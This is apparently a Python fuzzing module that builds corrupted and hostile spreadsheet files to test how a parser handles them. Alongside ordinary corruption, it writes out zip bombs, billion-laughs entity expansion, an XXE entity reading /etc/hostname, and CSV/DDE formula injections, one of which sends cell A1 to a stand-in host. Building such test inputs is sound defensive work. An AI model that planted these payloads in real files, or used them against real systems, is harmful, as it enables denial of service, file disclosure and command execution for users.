"""Workbooks that are broken, hostile or absurd: each made from a good one by a named, seeded change."""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass

REFUSED = frozenset({"refused"})
TOLD = frozenset({"refused", "found"})
HARMLESS = frozenset({"refused", "found", "same"})
ANY = HARMLESS | {"changed"}

Draw = random.Random
Change = Callable[[bytes, Draw], bytes]


@dataclass(frozen=True)
class Mutant:
    """One changed file; `base` is the good one that it was made from, `allowed` what may become of it."""

    kind: str
    name: str
    base: str
    content: bytes
    allowed: frozenset[str]


@dataclass(frozen=True)
class Kind:
    """A change of one kind of file, and what may become of it."""

    name: str
    ending: str
    change: Change
    allowed: frozenset[str]


def repacked(content: bytes, parts: Mapping[str, bytes] | Callable[[str, bytes], bytes]) -> bytes:
    """The package with some parts added or replaced, or with each part changed."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, parts(name, data) if callable(parts) else parts.get(name, data))
        for name in [] if callable(parts) else set(parts) - set(old.namelist()):
            new.writestr(name, parts[name])
    return stream.getvalue()


def sheet(content: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """The package with its first sheet changed."""
    return repacked(content, lambda name, data: change(data) if name.endswith("worksheets/sheet1.xml") else data)


def bits(content: bytes, draw: Draw) -> bytes:
    """A few flipped bits anywhere."""
    changed = bytearray(content)
    for _ in range(draw.randint(1, 8)):
        changed[draw.randrange(len(changed))] ^= 1 << draw.randrange(8)
    return bytes(changed)


def cut(content: bytes, draw: Draw) -> bytes:
    """The file breaks off."""
    return content[: draw.randrange(1, len(content))]


def hole(content: bytes, draw: Draw) -> bytes:
    """A stretch of noise in the middle."""
    start = draw.randrange(len(content))
    length = min(draw.randint(8, 600), len(content) - start)
    return content[:start] + draw.randbytes(length) + content[start + length :]


def swelling(content: bytes, draw: Draw) -> bytes:
    """A sheet that unpacks to more megabytes than any report has, and says so."""
    return repacked(content, {"xl/worksheets/sheet1.xml": b" " * draw.randint(61, 70) * (1 << 20)})


def lying(content: bytes, draw: Draw) -> bytes:
    """The same, but the directory declares a thousand bytes."""
    swollen = swelling(content, draw)
    with zipfile.ZipFile(io.BytesIO(swollen)) as archive:
        [size] = [entry.file_size for entry in archive.infolist() if entry.filename.endswith("sheet1.xml")]
    return swollen.replace(struct.pack("<I", size), struct.pack("<I", 1000))


def nested(content: bytes, draw: Draw) -> bytes:
    """A package in a package in a package, with a bomb at the bottom."""
    inner = swelling(content, draw)
    for _ in range(3):
        inner = repacked(content, {"xl/embeddings/Microsoft_Excel_Sheet1.xlsx": inner})
    return inner


def crowd(content: bytes, draw: Draw) -> bytes:
    """Thousands of tiny parts."""
    return repacked(content, {f"xl/worksheets/s{number}.xml": b"<a/>" for number in range(draw.randint(600, 3000))})


INJECTIONS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("http://example.invalid/?x="&amp;A1,"点我")',
    '=DDE("cmd","/C calc","x")',
    "-2+3+cmd|' /C calc'!D2",
    '=WEBSERVICE("http://example.invalid")',
)
_NUMBER = re.compile(rb'<c r="([A-Z]+\d+)"([^>]*?)(?: t="n")?><v>[^<]*</v></c>')


def injected(content: bytes, draw: Draw) -> bytes:
    """A command where a number stood, as text or as a formula without a result."""
    order = draw.choice(INJECTIONS)

    def change(xml: bytes) -> bytes:
        found = [match for match in _NUMBER.finditer(xml) if b't="s"' not in match[2]]
        match = draw.choice(found)
        text = f't="inlineStr"><is><t>{order}</t></is></c>'
        formula = f"><f>{order.lstrip('=+@')}</f></c>"
        cell = b'<c r="' + match[1] + b'" ' + draw.choice([text, formula]).encode()
        return xml[: match.start()] + cell + xml[match.end() :]

    return sheet(content, change)


def macros(content: bytes, draw: Draw) -> bytes:
    """A package with macros of one kind or the other."""
    part = draw.choice(["xl/vbaProject.bin", "XL/VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml"])
    return repacked(content, {part: b"\xcc\x61" + draw.randbytes(400)})


def laughter(content: bytes, draw: Draw) -> bytes:
    """Entities that grow tenfold nine times over, used in a cell or a shared text."""
    lines = ['<!ENTITY a0 "哈哈哈哈哈哈哈哈哈哈">']
    lines += [f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10)]
    head = f'<?xml version="1.0"?><!DOCTYPE x [{"".join(lines)}]>'.encode()
    part = draw.choice(["worksheets/sheet1.xml", "workbook.xml", "styles.xml"])

    def change(name: str, data: bytes) -> bytes:
        if not name.endswith(part):
            return data
        data = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", data)
        return head + data.replace(b"</v>", b"&a9;</v>", 1).replace(b'name="', b'name="&a9;', 1)

    return repacked(content, change)


def outside(content: bytes, draw: Draw) -> bytes:
    """An entity that names a file of the machine."""
    head = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
    return sheet(content, lambda xml: head + re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml).replace(b"</v>", b"&e;</v>", 1))


def boundless(content: bytes, draw: Draw) -> bytes:
    """A sheet that claims all rows and columns."""
    claim = b'<dimension ref="A1:XFD1048576"/>'
    return sheet(content, lambda xml: re.sub(rb"<dimension[^>]*/>", claim, xml))


def far(content: bytes, draw: Draw) -> bytes:
    """A number in the last cell there is."""
    row = b'<row r="1048576"><c r="XFD1048576"><v>12.5</v></c></row></sheetData>'
    return sheet(content, lambda xml: xml.replace(b"</sheetData>", row))


def nowhere(content: bytes, draw: Draw) -> bytes:
    """A cell whose name names no cell."""
    name = draw.choice([b"A0", b"ZZZZ9", b"A99999999999", b"", b"-1", b"A1:B2"])
    return sheet(content, lambda xml: re.sub(rb'<c r="[A-Z]+4"', b'<c r="' + name + b'"', xml, count=1))


def wide(content: bytes, draw: Draw) -> bytes:
    """Rows of 16,384 columns."""
    row = "".join(f"<c><v>{number}</v></c>" for number in range(16384))
    rows = "".join(f'<row r="{90 + at}">{row}</row>' for at in range(draw.randint(1, 4)))
    return sheet(content, lambda xml: xml.replace(b"</sheetData>", rows.encode() + b"</sheetData>"))


def merged_wide(content: bytes, draw: Draw) -> bytes:
    """One merged range over everything."""
    block = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return sheet(content, lambda xml: xml.replace(b"</sheetData>", b"</sheetData>" + block))


def lost_texts(content: bytes, draw: Draw) -> bytes:
    """Indexes beyond the shared texts."""
    index = draw.choice([b"99999", b"-1", b"4294967296", b"1e9", b"x"])
    text = re.compile(rb't="(?:s"[^>]*><v>\d+</v>|inlineStr"[^>]*><is>.*?</is>)', re.S)
    return sheet(content, lambda xml: text.sub(b't="s"><v>' + index + b"</v>", xml, count=3))


def odd_numbers(content: bytes, draw: Draw) -> bytes:
    """Numbers that no one can mean."""
    value = draw.choice([b"1e999", b"NaN", b"-inf", b"1" * 5000, b"0x10", b"1_0"])
    return sheet(content, lambda xml: _NUMBER.sub(rb'<c r="\1"\2><v>' + value + b"</v></c>", xml, count=2))


def odd_names(content: bytes, draw: Draw) -> bytes:
    """Names of parts or sheets that are no UTF-8, or lead out of the folder; a sheet may be named for its town."""
    if draw.random() < 0.5:
        return content.replace(b"xl/theme/theme1.xml", b"xl/\xd6\xd0/\xb1\xed\xb8\xf11.xml"[:19].ljust(19, b"\xff"))
    name = draw.choice([b"\xb1\xed", b"..\\..\\x", b"&#0;", b"&#xD800;", b"A" * 4000])
    return repacked(
        content,
        lambda part, data: (
            re.sub(rb'(<sheet [^>]*?name=")[^"]*', lambda m: m[1] + name, data) if part == "xl/workbook.xml" else data
        ),
    )


def mixed_up(content: bytes, draw: Draw) -> bytes:
    """A part is gone, empty, doubled, or another kind of XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        part = draw.choice(archive.namelist())
    return repacked(
        content, {part: draw.choice([b"", b"<x/>", b"<worksheet", b"\x00\xff\xfe", b"<?xml version='9.9'?><a>"])}
    )


def noise(content: bytes, draw: Draw) -> bytes:
    """Bytes without meaning."""
    return draw.randbytes(draw.randint(0, 60_000))


def zeros(content: bytes, draw: Draw) -> bytes:
    """One byte again and again."""
    return bytes([draw.choice([0, 9, 10, 34, 44, 255])]) * draw.randint(1, 300_000)


def quotes(content: bytes, draw: Draw) -> bytes:
    """A csv whose quotes and separators run wild."""
    line = draw.choice([b'"', b'a,"b\n', b",,,,,,,,", b'"""', b"\r", b"\x00,1"])
    return content + line * draw.randint(1, 20_000)


def old_garbage(content: bytes, draw: Draw) -> bytes:
    """The first bytes of an old workbook, then noise."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + draw.randbytes(draw.randint(0, 40_000))


KINDS: tuple[Kind, ...] = (
    Kind("bits", ".xlsx", bits, HARMLESS),
    Kind("cut", ".xlsx", cut, REFUSED),
    Kind("hole", ".xlsx", hole, HARMLESS),
    Kind("swelling", ".xlsx", swelling, REFUSED),
    Kind("lying", ".xlsx", lying, REFUSED),
    Kind("nested", ".xlsx", nested, HARMLESS),
    Kind("crowd", ".xlsx", crowd, REFUSED),
    Kind("injected", ".xlsx", injected, HARMLESS),
    Kind("macros", ".xlsx", macros, REFUSED),
    Kind("laughter", ".xlsx", laughter, REFUSED),
    Kind("outside", ".xlsx", outside, REFUSED),
    Kind("boundless", ".xlsx", boundless, HARMLESS),
    Kind("far", ".xlsx", far, ANY),
    Kind("nowhere", ".xlsx", nowhere, HARMLESS),
    Kind("wide", ".xlsx", wide, ANY),
    Kind("merged_wide", ".xlsx", merged_wide, ANY),
    Kind("lost_texts", ".xlsx", lost_texts, HARMLESS),
    Kind("odd_numbers", ".xlsx", odd_numbers, HARMLESS),
    Kind("odd_names", ".xlsx", odd_names, ANY),
    Kind("mixed_up", ".xlsx", mixed_up, HARMLESS),
    Kind("noise", ".xlsx", noise, REFUSED),
    Kind("noise_csv", ".csv", noise, TOLD),
    Kind("zeros_csv", ".csv", zeros, TOLD),
    Kind("quotes_csv", ".csv", quotes, ANY),
    Kind("cut_csv", ".csv", cut, ANY),
    Kind("bits_xls", ".xls", bits, ANY),
    Kind("cut_xls", ".xls", cut, ANY),
    Kind("hole_xls", ".xls", hole, ANY),
    Kind("garbage_xls", ".xls", old_garbage, REFUSED),
)


def mutants(bases: Mapping[str, bytes], count: int, seed: str) -> list[Mutant]:
    """So many mutants of good files, each kind in turn."""
    draw, made = random.Random(seed), []
    for number in range(count):
        kind = KINDS[number % len(KINDS)]
        base = draw.choice([name for name in bases if name.endswith(kind.ending)])
        content = kind.change(bases[base], draw)
        made.append(Mutant(kind.name, base, base, content, kind.allowed))
    return made
